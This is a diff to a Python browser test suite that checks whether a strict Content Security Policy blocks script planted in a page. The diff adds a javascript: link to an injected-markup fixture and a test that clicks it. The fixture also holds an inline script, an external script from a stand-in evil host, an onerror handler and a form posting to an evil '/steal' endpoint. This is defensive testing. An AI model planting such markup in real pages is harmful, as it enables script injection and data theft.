@@ -195,6 +195,7 @@ PLANTED = """
 <script>document.documentElement.dataset.planted = "inline";</script>
 <script src="{evil}/evil.js"></script>
 <img src="x" onerror="document.documentElement.dataset.planted = 'handler'">
+<a id="planted-link" href="javascript:document.documentElement.dataset.planted = 'link'">a link</a>
 <form id="planted-form" action="{evil}/steal" method="post"><input name="q" value="1"><button>Send</button></form>
 """
 
@@ -286,6 +287,10 @@ def test_a_script_planted_in_a_page_does_not_run(browser_page, strict_site):
     directives = {v.split()[0] for v in violations(browser_page)}
     assert {"script-src-elem", "script-src-attr"} <= directives, violations(browser_page)
     assert not [r for r in strict_site["elsewhere"].requests if "evil.js" in r]  # never even fetched
+    reported = len(violations(browser_page))
+    browser_page.locator("#planted-link").click()  # a javascript: URL is a script too
+    browser_page.wait_for_function(f"() => window.__csp.length > {reported}")
+    assert browser_page.evaluate("document.documentElement.dataset.planted") is None
 
 
 def test_the_comment_form_posts_to_its_service(browser, strict_site):
